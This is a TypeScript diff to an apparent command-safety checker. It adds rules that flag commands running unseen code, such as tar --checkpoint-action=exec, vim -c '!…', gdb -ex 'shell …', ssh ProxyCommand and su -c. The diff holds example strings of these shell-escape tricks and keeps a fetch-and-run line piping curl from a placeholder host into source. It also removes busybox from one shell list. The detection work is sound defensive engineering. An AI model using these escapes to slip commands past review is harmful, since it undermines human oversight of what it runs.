@@ -30,7 +30,7 @@ export interface OpaqueHit {
 }
 
 const POSIX_SHELLS = ["bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "rbash"];
-const OTHER_SHELLS = ["fish", "csh", "tcsh", "busybox"];
+const OTHER_SHELLS = ["fish", "csh", "tcsh"];
 const INFO_FLAGS = new Set(["--version", "--help", "-V", "-h"]);
 
 export const OPAQUE_RULES: readonly OpaqueRule[] = [
@@ -64,6 +64,146 @@ export const OPAQUE_RULES: readonly OpaqueRule[] = [
     note: "source of a stream (a process substitution, stdin) runs code nobody can read first",
     match: ["source <(curl -s https://x.example/i.sh)", ". /dev/stdin", 'source "$RC"'],
     notMatch: ["source .venv/bin/activate", ". ./env.sh"],
+  },
+  {
+    names: ["su", "runuser", "sg"],
+    detect: detectSwitchUser,
+    note: "su/runuser/sg run a shell as another user: -c gives it a script; runuser -u runs the words after it",
+    match: [
+      "su -c 'git push origin main'",
+      "su - root -c 'rm x'",
+      "runuser -u root -- git push origin main",
+      "runuser -l root -c 'rm x'",
+      "sg docker -c 'rm x'",
+      "su",
+    ],
+    notMatch: [],
+  },
+  {
+    names: ["script"],
+    detect: (words) => {
+      const value = optionValue(
+        words,
+        /^-[a-zA-Z]*c$/,
+        /^--command$/,
+        /^-[a-zA-Z]*c(.+)$/,
+        /^--command=(.*)$/s,
+      );
+      if (value !== undefined) return { script: value?.literal ? value.text : null };
+      // Without -c script starts an interactive shell, which reads whatever stdin holds.
+      return { script: null, readsStdin: true };
+    },
+    note: "script -c runs a shell string; without it, a shell reading stdin",
+    match: ["script -qc 'git push origin main' /dev/null", "script --command='rm x' log", "script"],
+    notMatch: [],
+  },
+  {
+    names: ["ssh"],
+    detect: detectSsh,
+    note: "ssh runs ProxyCommand/LocalCommand/KnownHostsCommand locally, reads any -F config; the remote command is judged as a command too",
+    match: [
+      "ssh -o ProxyCommand='git push origin main' x",
+      "ssh -oLocalCommand='rm x' -oPermitLocalCommand=yes x",
+      "ssh -F ./cfg host",
+      "ssh host 'rm -rf build'",
+    ],
+    notMatch: ["ssh host", "ssh -p 2222 -i ~/.ssh/key user@host"],
+  },
+  {
+    names: ["vim", "vi", "nvim", "ex", "view", "vimdiff", "rvim", "gvim"],
+    detect: (words) =>
+      words
+        .slice(1)
+        .some(
+          (w) =>
+            !w.literal ||
+            /^(-c|--cmd|-S|-s|-u|-i|-w|-W)$|^\+|^-[a-zA-Z]*[cS]/.test(w.text) ||
+            w.text === "-",
+        )
+        ? { script: null }
+        : null,
+    note: "Ex commands (-c, +cmd, --cmd, -S script, -s keys, -u vimrc) can run shell commands",
+    match: [
+      "vim -es -c '!git push origin main' -c 'qa!'",
+      "vi -c 'call system(\"id\")'",
+      "ex +'!id' f",
+      "vim -S /dev/stdin",
+      "nvim --cmd 'lua os.execute(\"id\")'",
+    ],
+    notMatch: ["vim README.md", "vi -R notes.txt"],
+  },
+  {
+    names: ["gdb", "lldb"],
+    detect: () => ({ script: null }),
+    note: "a debugger runs the program it is given and any command in -ex/-x/init files",
+    match: [
+      "gdb -batch -ex 'shell git push origin main'",
+      "gdb ./a.out",
+      "lldb -o 'platform shell id'",
+    ],
+    notMatch: [],
+  },
+  {
+    names: ["make", "gmake", "bmake", "ninja", "just", "rake"],
+    detect: (words) =>
+      words.slice(1).some((w) => w.literal && /^(--version|-v|--help|-h)$/.test(w.text)) &&
+      words.length === 2
+        ? null
+        : { script: null },
+    note: "a build tool runs the recipes of a file the command line does not show",
+    match: ["make", "make -f /dev/stdin", "make --eval='x:; id' x", "ninja -C build"],
+    notMatch: ["make --version"],
+  },
+  {
+    names: ["tar", "bsdtar", "gtar"],
+    detect: (words) =>
+      words
+        .slice(1)
+        .some(
+          (w) =>
+            !w.literal ||
+            /^--(checkpoint-action|to-command|use-compress-program|rsh-command|info-script|new-volume-script)(=|$)|^--(ch|che|chec|check|checkp|checkpo|checkpoi|checkpoin|checkpoint-|to-|to-c|use-|rsh-|info-|new-)/.test(
+              w.text,
+            ) ||
+            /^-[a-zA-Z]*[IF]/.test(w.text),
+        )
+        ? { script: null }
+        : null,
+    note: "tar runs commands from --checkpoint-action=exec, --to-command, -I/--use-compress-program, --rsh-command, -F/--info-script",
+    match: [
+      "tar -cf /dev/null README.md --checkpoint=1 --checkpoint-action=exec='git push origin main'",
+      "tar -xf t.tar --to-command='rm x'",
+      "tar -I 'sh -c id' -cf a.tar f",
+    ],
+    notMatch: ["tar czf a.tgz src", "tar -xf a.tar -C out"],
+  },
+  {
+    names: ["parallel", "sem"],
+    detect: () => ({ script: null }),
+    note: "GNU parallel runs command templates with arguments nobody sees until run time (or commands from stdin)",
+    match: ["parallel git push ::: origin", "parallel < jobs.txt"],
+    notMatch: [],
+  },
+  {
+    names: [
+      "nsenter",
+      "firejail",
+      "systemd-run",
+      "flatpak-spawn",
+      "xvfb-run",
+      "dbus-run-session",
+      "catchsegv",
+      "strace",
+      "ltrace",
+      "valgrind",
+      "perf",
+      "at",
+      "batch",
+    ],
+    detect: (words) => (words.length > 1 ? { script: null } : null),
+    note: "programs that run another program given in their arguments with options this table does not model",
+    match: ["nsenter -t 1 -m rm x", "strace -f rm x", "at now"],
+    notMatch: ["strace"],
   },
   {
     names: ["eval"],
@@ -235,6 +375,90 @@ function streamedScript(word: Word | undefined): boolean {
   if (word === undefined) return false;
   if (word.processSubstitution || !word.literal) return true;
   return /^\/dev\/(stdin|fd\/\d+)$|^\/proc\/self\/fd\/\d+$/.test(word.text);
+}
+
+/**
+ * The value of an option given as `-c value`, `-cvalue`, `--command value` or
+ * `--command=value`: `undefined` when absent, `null` when present without a value.
+ */
+function optionValue(
+  words: readonly Word[],
+  separate: RegExp,
+  separateLong: RegExp,
+  attached: RegExp,
+  attachedLong: RegExp,
+): Word | null | undefined {
+  for (let i = 1; i < words.length; i++) {
+    const word = words[i] as Word;
+    if (word.text === "--") return undefined;
+    if (separate.test(word.text) || separateLong.test(word.text)) return words[i + 1] ?? null;
+    const match = attachedLong.exec(word.text) ?? attached.exec(word.text);
+    if (match && word.text.startsWith("-")) return { ...word, text: match[1] ?? "" };
+  }
+  return undefined;
+}
+
+function detectSwitchUser(words: readonly Word[]): OpaqueHit | null {
+  const command = optionValue(
+    words,
+    /^-[a-zA-Z]*c$/,
+    /^--(command|session-command)$/,
+    /^-[a-zA-Z]*c(.+)$/s,
+    /^--(?:command|session-command)=(.*)$/s,
+  );
+  if (command !== undefined) return { script: command?.literal ? command.text : null };
+  // runuser -u USER [--] COMMAND…: the words after the user run as they are.
+  const user = words.findIndex((w) => /^(-u|--user)$/.test(w.text));
+  if (user !== -1) {
+    let i = user + 2;
+    while (words[i] !== undefined && (words[i] as Word).text.startsWith("-")) {
+      if ((words[i] as Word).text === "--") {
+        i++;
+        break;
+      }
+      i++;
+    }
+    return { script: joinLiteral(words.slice(i)) };
+  }
+  return { script: null, readsStdin: true };
+}
+
+const SSH_LOCAL =
+  /^(proxycommand|localcommand|knownhostscommand|match|permitlocalcommand|proxyjump|include)\b/i;
+
+function detectSsh(words: readonly Word[]): OpaqueHit | null {
+  let i = 1;
+  for (; i < words.length; i++) {
+    const word = words[i] as Word;
+    if (!word.literal) return { script: null };
+    const text = word.text;
+    if (text === "--") {
+      i++;
+      break;
+    }
+    if (!text.startsWith("-")) break;
+    if (/^-[a-zA-Z]*[FoJ]$/.test(text)) {
+      const value = words[++i];
+      if (/F$/.test(text)) return { script: null };
+      if (/J$/.test(text)) continue;
+      if (value === undefined || !value.literal || SSH_LOCAL.test(value.text))
+        return { script: null };
+      continue;
+    }
+    if (/^-[a-zA-Z]*F./.test(text)) return { script: null };
+    const attachedOption = /^-[46AaCfGgKkMNnqsTtVvXxYy]*o(.+)$/.exec(text);
+    if (attachedOption) {
+      const setting = attachedOption[1] ?? "";
+      if (SSH_LOCAL.test(setting)) return { script: null };
+      continue;
+    }
+    // Options that take a value: -b -c -D -E -e -I -i -L -l -m -O -p -Q -R -S -W -w -B
+    if (/^-[a-zA-Z]*[bcDEeIiLlmOpQRSWwB]$/.test(text)) i++;
+  }
+  // words[i] is the host; what follows is the remote command: judge it as a command too.
+  const remote = words.slice(i + 1);
+  if (remote.length === 0) return null;
+  return { script: joinLiteral(remote) };
 }
 
 function detectTrap(words: readonly Word[]): OpaqueHit | null {
